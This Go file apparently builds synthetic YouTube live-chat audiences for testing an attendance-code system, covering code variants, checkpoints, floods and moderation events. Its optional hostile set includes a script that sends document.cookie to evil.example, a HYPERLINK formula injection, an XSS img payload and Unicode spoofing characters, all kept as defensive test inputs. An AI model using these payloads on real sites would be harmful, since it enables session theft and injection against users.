package fakeyoutube

import (
	"fmt"
	"math/rand/v2"
	"sort"
	"strings"
	"time"
)

// Attendee is a registered person who will type their attendance code.
type Attendee struct {
	ChannelID string // UC…
	Name      string // display name, often in its own script
	Code      string // the code as issued, e.g. K7QM-4X2P
}

// CheckpointWindow is a word announced during the stream, answered in chat
// while the window is open (and, by some, before or after).
type CheckpointWindow struct {
	Word     string
	OpensAt  time.Time
	ClosesAt time.Time
}

// Flood is a burst of messages in a few seconds (a greeting wave), bigger
// than one page when Size > 2000.
type Flood struct {
	At   time.Time
	Size int
}

// Audience describes a generated chat. Everything is deterministic from
// Seed.
type Audience struct {
	Seed        uint64
	Start, End  time.Time // when the chat runs; messages fall inside
	Attendees   []Attendee
	Checkpoints []CheckpointWindow
	Lurkers     int // channels that only greet or chat, never type a code
	Floods      []Flood
	Hostile     bool // add hostile text: markup, very long lines, zero-width characters
	Moderation  bool // add a Super Chat, a deletion and a ban
}

// Greetings in the scripts of the region, and English.
var greetings = []string{
	"สวัสดีครับ จากกรุงเทพฯ",                // Thai
	"สวัสดีค่ะ ทุกคน",                       // Thai
	"ជំរាបសួរ ពីភ្នំពេញ",                    // Khmer
	"ສະບາຍດີ ຈາກວຽງຈັນ",                     // Lao
	"မင်္ဂလာပါ ရန်ကုန်ကနေ",                  // Burmese
	"Xin chào từ Hà Nội",                    // Vietnamese
	"Chào mọi người, rất vui được tham gia", // Vietnamese
	"Selamat pagi dari Jakarta",             // Indonesian
	"Magandang umaga mula sa Maynila",       // Filipino
	"Hello from Kuala Lumpur!",
	"Good morning everyone 👋",
	"Thank you for this session 🙏",
}

var lurkerNames = []string{
	"สมชาย ใจดี", "Nguyễn Thị Hương", "សុខ ចាន់ធី", "ບຸນມີ ແສງສະຫວ່າງ", "အောင် ကျော်", "Siti Nurhaliza",
	"Juan dela Cruz", "@teacher_ha", "Trần Văn Minh", "วิไลวรรณ ศรีสุข",
}

// CodeVariants are ways people type a code as issued ("K7QM-4X2P").
func CodeVariants(code string) []string {
	plain := strings.ReplaceAll(code, "-", "")
	return []string{
		code,
		strings.ToLower(code),
		plain,
		strings.ToLower(plain),
		strings.ReplaceAll(code, "-", " "),
		"my code is " + strings.ToLower(code),
		"Code: " + code + " thank you!",
		"รหัสของฉัน " + code,
		toFullWidth(code),
		" " + code + "  ",
	}
}

// toFullWidth turns ASCII letters, digits and '-' into their full-width
// forms, as East Asian input methods type them.
func toFullWidth(s string) string {
	var b strings.Builder
	for _, r := range s {
		if r > 0x20 && r < 0x7f {
			r += 0xFEE0
		}
		b.WriteRune(r)
	}
	return b.String()
}

// Generate produces the audience's messages in publishedAt order, with ids.
func (a Audience) Generate() []Message {
	rng := rand.New(rand.NewPCG(a.Seed, a.Seed^0x9e3779b97f4a7c15))
	span := a.End.Sub(a.Start)
	if span <= 0 {
		span = time.Hour
	}
	at := func(from, to time.Time) time.Time {
		d := to.Sub(from)
		if d <= 0 {
			return from
		}
		return from.Add(time.Duration(rng.Int64N(int64(d))))
	}
	clampIn := func(t time.Time) time.Time {
		if t.Before(a.Start) {
			return a.Start
		}
		if !t.Before(a.End) {
			return a.End.Add(-time.Millisecond)
		}
		return t
	}
	var out []Message
	add := func(m Message) {
		m.PublishedAt = clampIn(m.PublishedAt)
		if m.Type == "" {
			m.Type = "textMessageEvent"
		}
		out = append(out, m)
	}
	for _, p := range a.Attendees {
		// greet, maybe
		if rng.IntN(2) == 0 {
			add(Message{AuthorChannelID: p.ChannelID, AuthorName: p.Name, Text: greetings[rng.IntN(len(greetings))],
				PublishedAt: at(a.Start, a.Start.Add(span/6))})
		}
		// type the code, sometimes twice, with a variation
		variants := CodeVariants(p.Code)
		for range 1 + rng.IntN(2) {
			add(Message{AuthorChannelID: p.ChannelID, AuthorName: p.Name, Text: variants[rng.IntN(len(variants))],
				PublishedAt: at(a.Start, a.Start.Add(span/2))})
		}
		// answer checkpoints: mostly inside the window, some early or late, some never
		for _, c := range a.Checkpoints {
			var when time.Time
			switch r := rng.IntN(20); {
			case r < 15:
				when = at(c.OpensAt, c.ClosesAt)
			case r < 17:
				when = at(c.OpensAt.Add(-10*time.Minute), c.OpensAt)
			case r < 19:
				when = at(c.ClosesAt, c.ClosesAt.Add(10*time.Minute))
			default:
				continue
			}
			text := []string{c.Word, strings.ToLower(c.Word), "the word is " + c.Word, toFullWidth(c.Word), c.Word + " 👍"}[rng.IntN(5)]
			add(Message{AuthorChannelID: p.ChannelID, AuthorName: p.Name, Text: text, PublishedAt: when})
		}
	}
	for i := range a.Lurkers {
		ch := fmt.Sprintf("UClurker%016d", i)
		name := lurkerNames[i%len(lurkerNames)]
		for range 1 + rng.IntN(3) {
			add(Message{AuthorChannelID: ch, AuthorName: name, Text: greetings[rng.IntN(len(greetings))],
				PublishedAt: at(a.Start, a.End)})
		}
	}
	for fi, f := range a.Floods {
		for i := range f.Size {
			ch := fmt.Sprintf("UCflood%02d%010d", fi, i)
			add(Message{AuthorChannelID: ch, AuthorName: lurkerNames[i%len(lurkerNames)],
				Text: greetings[i%len(greetings)], PublishedAt: at(f.At, f.At.Add(5*time.Second))})
		}
	}
	if a.Hostile {
		hostile := []string{
			`<img src=x onerror=alert(1)>`,
			`<script>document.location='https://evil.example/?c='+document.cookie</script>`,
			`=HYPERLINK("https://evil.example","click")`,
			strings.Repeat("ฮ่าๆ", 1500),
			"K7QM\u200b-4X2P\u200d zero\u200bwidth\ufeff",
			"\u202eevil right-to-left override",
			"line one\nline two\r\nline three",
		}
		for i, h := range hostile {
			add(Message{AuthorChannelID: fmt.Sprintf("UChostile%014d", i), AuthorName: `"><b>name</b>`, Text: h,
				PublishedAt: at(a.Start, a.End)})
		}
	}
	sort.SliceStable(out, func(i, j int) bool { return out[i].PublishedAt.Before(out[j].PublishedAt) })
	for i := range out {
		out[i].ID = fmt.Sprintf("LCC.gen%d.%07d", a.Seed, i)
	}
	if a.Moderation && len(out) > 2 {
		victim := out[len(out)/2]
		mid := victim.PublishedAt
		out = append(out,
			Message{ID: fmt.Sprintf("LCC.gen%d.sc", a.Seed), Type: "superChatEvent", AuthorChannelID: "UCsupporter0000000000001",
				AuthorName: "Supporter", Text: "Great dialogue!", PublishedAt: clampIn(mid.Add(time.Second))},
			Message{ID: fmt.Sprintf("LCC.gen%d.del", a.Seed), Type: "messageDeletedEvent", AuthorChannelID: "UCmoderator00000000000001",
				AuthorName: "Moderator", TargetID: victim.ID, PublishedAt: clampIn(mid.Add(2 * time.Second))},
			Message{ID: fmt.Sprintf("LCC.gen%d.ban", a.Seed), Type: "userBannedEvent", AuthorChannelID: "UCmoderator00000000000001",
				AuthorName: "Moderator", TargetID: victim.AuthorChannelID, Text: "user banned", PublishedAt: clampIn(mid.Add(3 * time.Second))},
		)
		sort.SliceStable(out, func(i, j int) bool { return out[i].PublishedAt.Before(out[j].PublishedAt) })
	}
	return out
}
